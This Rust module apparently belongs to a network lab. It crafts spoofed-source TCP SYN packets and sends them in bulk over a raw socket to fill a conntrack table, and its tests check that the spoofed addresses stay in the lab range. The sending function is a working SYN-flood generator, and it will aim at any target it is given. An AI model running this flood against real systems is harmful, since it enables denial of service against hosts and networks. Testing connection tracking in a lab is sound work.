//! Spoofed TCP SYNs, to fill a conntrack table with flows nobody completes: the lab's
//! stand-in for a SYN flood. Sent through a raw IPv4 socket (`IPPROTO_RAW`: the header is
//! ours, source included) from the namespace the caller is in.

use std::{
    io,
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
};

use etherparse::PacketBuilder;

/// First address of the spoofed sources: 198.18.64.0/18, inside the lab's range and apart
/// from every address the lab gives an interface.
pub const SPOOFED_SOURCES: Ipv4Addr = Ipv4Addr::new(198, 18, 64, 0);
/// Sources per address before the next address is used (ports 1024..).
const PORTS_PER_SOURCE: u32 = 60_000;

/// The `index`-th spoofed source: address and port, each distinct for `index` < 2^14 × 60 000.
pub fn spoofed_source(index: u32) -> SocketAddrV4 {
    let addr = u32::from(SPOOFED_SOURCES) + index / PORTS_PER_SOURCE;
    let port = 1024 + (index % PORTS_PER_SOURCE) as u16;
    SocketAddrV4::new(Ipv4Addr::from(addr), port)
}

/// A TCP SYN from `src` to `dst`, IPv4 header included.
pub fn syn_packet(src: SocketAddrV4, dst: SocketAddrV4) -> Vec<u8> {
    let mut packet = Vec::with_capacity(40);
    PacketBuilder::ipv4(src.ip().octets(), dst.ip().octets(), 64)
        .tcp(src.port(), dst.port(), 1, 64_240)
        .syn()
        .write(&mut packet, &[])
        .expect("writing into a Vec cannot fail");
    packet
}

/// Sends `count` SYNs to `target`, each from a new spoofed source ([`spoofed_source`]);
/// returns how many the kernel took.
pub fn send_spoofed_syns(target: SocketAddrV4, count: u32) -> io::Result<u32> {
    // SAFETY: socket(2) with constant arguments; the descriptor is owned right away.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: a fresh descriptor nobody else owns.
    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
    let destination = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(*target.ip()).to_be(),
        },
        sin_zero: [0; 8],
    };
    let mut sent = 0;
    for index in 0..count {
        let packet = syn_packet(spoofed_source(index), target);
        // SAFETY: the buffer and the address outlive the call; lengths are theirs.
        let written = unsafe {
            libc::sendto(
                socket.as_raw_fd(),
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&raw const destination).cast(),
                size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if written < 0 {
            let error = io::Error::last_os_error();
            // A full device queue: let it drain and send this one again.
            if error.raw_os_error() == Some(libc::ENOBUFS) {
                std::thread::sleep(std::time::Duration::from_millis(1));
                continue;
            }
            return Err(error);
        }
        sent += 1;
    }
    Ok(sent)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spoofed_sources_stay_in_the_lab_range_and_differ() {
        let last = spoofed_source((1 << 14) * PORTS_PER_SOURCE - 1);
        assert!(
            last.ip().octets()[..2] == [198, 18],
            "{last} leaves 198.18.0.0/15"
        );
        assert_ne!(spoofed_source(0), spoofed_source(PORTS_PER_SOURCE));
        assert_ne!(spoofed_source(0), spoofed_source(1));
    }

    #[test]
    fn a_syn_packet_is_a_syn_to_its_target() {
        let dst = SocketAddrV4::new(Ipv4Addr::new(198, 18, 100, 10), 80);
        let packet = syn_packet(spoofed_source(7), dst);
        let sliced = etherparse::SlicedPacket::from_ip(&packet).expect("parses");
        let Some(etherparse::TransportSlice::Tcp(tcp)) = sliced.transport else {
            panic!("not TCP");
        };
        assert!(tcp.syn() && !tcp.ack());
        assert_eq!((tcp.source_port(), tcp.destination_port()), (1031, 80));
    }
}
